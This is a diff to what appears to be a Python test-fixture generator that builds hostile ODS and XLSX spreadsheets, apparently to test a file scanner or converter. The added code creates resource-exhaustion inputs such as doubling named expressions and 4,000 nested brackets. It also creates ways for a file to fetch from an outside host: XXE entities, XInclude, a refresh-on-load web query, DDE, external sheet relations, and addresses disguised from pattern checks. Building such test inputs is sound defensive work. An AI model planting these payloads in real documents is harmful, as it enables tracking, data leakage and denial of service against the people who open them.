@@ -243,7 +243,52 @@ def depth(parts: Parts) -> None:
             parts[part] = parts[part][:end] + inner + parts[part][end:]
 
 
+def validations(parts: Parts) -> None:
+    """Ranges of validations, each as large as a sheet."""
+    if "content.xml" in parts:
+        name = re.search(rb'table:content-validation-name="([^"]*)"', parts["content.xml"])
+        assert name
+        valid = f'table:content-validation-name="{name[1].decode()}"'
+        cell = f'<table:table-cell {valid} table:number-columns-repeated="16384"/>'
+        row = f'<table:table-row table:number-rows-repeated="20">{cell}</table:table-row>'
+        _rows_ods(parts, row * 9_000, "Start")
+        return
+    part = sheet(parts, "Start")
+    one = f'<dataValidation type="decimal" sqref="{"A1:XFD1048576 " * 50}"/>'
+    many = f"<dataValidations>{one * 1_500}</dataValidations>"
+    content = re.sub(rb"<dataValidations.*?</dataValidations>", b"", parts[part])
+    parts[part] = content.replace(b"</sheetData>", b"</sheetData>" + many.encode())
+
+
+def names_of_names(parts: Parts) -> None:
+    """Names that double each other."""
+    doubled = [(f"n{i}", f"n{i - 1}+n{i - 1}") for i in range(1, 200)]
+    if "content.xml" in parts:
+        many = "".join(
+            f'<table:named-expression table:name="{name}" table:expression="{text}"/>'
+            for name, text in doubled
+        )
+        more = f"<table:named-expressions>{many}</table:named-expressions>"
+        replaced(parts, "content.xml", "</office:spreadsheet>", f"{more}</office:spreadsheet>")
+    else:
+        many = "".join(f'<definedName name="{n}">{text}</definedName>' for n, text in doubled)
+        replaced(parts, "xl/workbook.xml", "</definedNames>", f"{many}</definedNames>")
+
+
+def brackets(parts: Parts) -> None:
+    """A formula of ours, in 4,000 brackets."""
+    written = "(" * 4_000 + "1" + ")" * 4_000
+    if "content.xml" in parts:
+        part, old, new = "content.xml", rb'table:formula="[^"]*"', f'table:formula="of:={written}"'
+    else:
+        part, old, new = sheet(parts, "Training"), rb"<f>[^<]*</f>", f"<f>{written}</f>"
+    parts[part] = re.sub(old, new.encode(), parts[part], count=1)
+
+
 REPEATING: list[Maker] = [
+    validations,
+    names_of_names,
+    brackets,
     comments_in_front,
     a_comment_in_front,
     elements,
@@ -299,8 +344,9 @@ def linked_range_ods(parts: Parts) -> None:
 
 def metadata_ods(parts: Parts) -> None:
     parts["manifest.rdf"] = (
-        f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "{ADDRESS}/a.dtd">%p;]>'
-        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>'
+        f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "{ADDRESS}/a.dtd">%p;'
+        f'<!ENTITY x SYSTEM "{ADDRESS}/a.ent">]>'
+        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">&x;</rdf:RDF>'
     ).encode()
     entry = '<manifest:file-entry manifest:full-path="manifest.rdf" '
     entry += 'manifest:media-type="application/rdf+xml"/></manifest:manifest>'
@@ -411,6 +457,76 @@ def doctype_xlsx(parts: Parts) -> None:
     _in_front(parts, "xl/styles.xml", f'<!DOCTYPE a SYSTEM "{ADDRESS}/a.dtd">'.encode())
 
 
+#: An address that no pattern finds, since the formula puts it together.
+COMPOSED = f"INDIRECT(&quot;'&quot;&amp;&quot;{ADDRESS}/a.ods'#$Sheet1.A1&quot;)"
+
+
+def named_ods(parts: Parts) -> None:
+    """A name that is relative to a cell of another file, its address in numbers."""
+    address = ADDRESS.replace("t", "&#116;").replace("/", "&#47;")
+    name = (
+        f"""<table:named-range table:base-cell-address="'{address}/b.ods'#$a.$A$1" """
+        'table:name="far" table:cell-range-address="$Index.$A$1"/>'
+    )
+    more = f"<table:named-expressions>{name}</table:named-expressions>"
+    replaced(parts, "content.xml", "</office:spreadsheet>", f"{more}</office:spreadsheet>")
+
+
+def sheet_name_ods(parts: Parts) -> None:
+    """A sheet named as LibreOffice names what it keeps of another file."""
+    far = f"""<table:table table:name="'{ADDRESS}/c.ods'#Sheet1"><table:table-row>"""
+    far += "<table:table-cell/></table:table-row></table:table>"
+    replaced(parts, "content.xml", "</office:spreadsheet>", f"{far}</office:spreadsheet>")
+
+
+def base_ods(parts: Parts) -> None:
+    """A base for addresses that are relative."""
+    replaced(parts, "content.xml", "<office:body", f'<office:body xml:base="{ADDRESS}/"')
+    frame = f'<draw:frame {DRAW} {SVG} svg:width="1cm" svg:height="1cm"><draw:image {XLINK} '
+    frame += 'xlink:href="picture.png" xlink:show="embed" xlink:actuate="onLoad"/>'
+    cell = f"<table:table-cell>{frame}</draw:frame></table:table-cell>"
+    _rows_ods(parts, f"<table:table-row>{cell}</table:table-row>", "Drawing")
+
+
+def included_ods(parts: Parts) -> None:
+    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{ADDRESS}/a.xml"/>'
+    replaced(parts, "content.xml", "<office:spreadsheet>", f"<office:spreadsheet>{include}")
+    _in_front(parts, "content.xml", f'<?xml-stylesheet href="{ADDRESS}/a.xsl"?>'.encode())
+
+
+def web_query_xlsx(parts: Parts) -> None:
+    """A connection that is refreshed when the file is opened."""
+    replaced(
+        parts,
+        "xl/_rels/workbook.xml.rels",
+        "</Relationships>",
+        f'<Relationship Id="rId78" Type="{RELATION}/connections" Target="connections.xml"/>'
+        "</Relationships>",
+    )
+    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+    parts["xl/connections.xml"] = (
+        f'<connections xmlns="{main}"><connection id="1" name="a" type="4" refreshOnLoad="1" '
+        f'refreshedVersion="4"><webPr url="{ADDRESS}/a.html" htmlTables="1"/></connection>'
+        "</connections>"
+    ).encode()
+    replaced(
+        parts,
+        "[Content_Types].xml",
+        "</Types>",
+        '<Override PartName="/xl/connections.xml" ContentType="application/vnd.openxmlformats-'
+        'officedocument.spreadsheetml.connections+xml"/></Types>',
+    )
+
+
+def far_sheet_xlsx(parts: Parts) -> None:
+    """A sheet that lies elsewhere, beside one of the same relation that does not."""
+    relations = parts["xl/_rels/workbook.xml.rels"].decode()
+    far = f'<Relationship Id="rId1" Type="{RELATION}/worksheet" Target="{ADDRESS}/a.xml" '
+    end = relations.index("<Relationship ")
+    relations = f'{relations[:end]}{far}TargetMode="External"/>{relations[end:]}'
+    parts["xl/_rels/workbook.xml.rels"] = relations.encode()
+
+
 FETCHING: dict[str, dict[str, Maker]] = {
     "ods": {
         "picture": picture_ods,
@@ -421,6 +537,11 @@ FETCHING: dict[str, dict[str, Maker]] = {
         "background": background_ods,
         "script": script_ods,
         "document type": doctype_ods,
+        "base": base_ods,
+        "included": included_ods,
+        "name": named_ods,
+        "sheet's name": sheet_name_ods,
+        "composed": _formula_ods(f"of:={COMPOSED}"),
         "web service": _formula_ods(f"of:=COM.MICROSOFT.WEBSERVICE(&quot;{ADDRESS}/a&quot;)"),
         "other file": _formula_ods(f"of:=['{ADDRESS}/a.ods'#$Sheet1.A1]"),
         "dde": _formula_ods(
@@ -431,6 +552,10 @@ FETCHING: dict[str, dict[str, Maker]] = {
         "picture": picture_xlsx,
         "other book": other_book_xlsx,
         "document type": doctype_xlsx,
+        "web query": web_query_xlsx,
+        "far sheet": far_sheet_xlsx,
+        "composed": _formula_xlsx(COMPOSED),
+        "dde": _formula_xlsx(f"soffice|'{ADDRESS}/a.ods'!A1"),
         "web service": _formula_xlsx(f'_xlfn.WEBSERVICE("{ADDRESS}/a")'),
         "image": _formula_xlsx(f'_xlfn.IMAGE("{ADDRESS}/a.png")'),
         "other file": _formula_xlsx(f"'{ADDRESS}/[a.xlsx]Sheet1'!A1"),
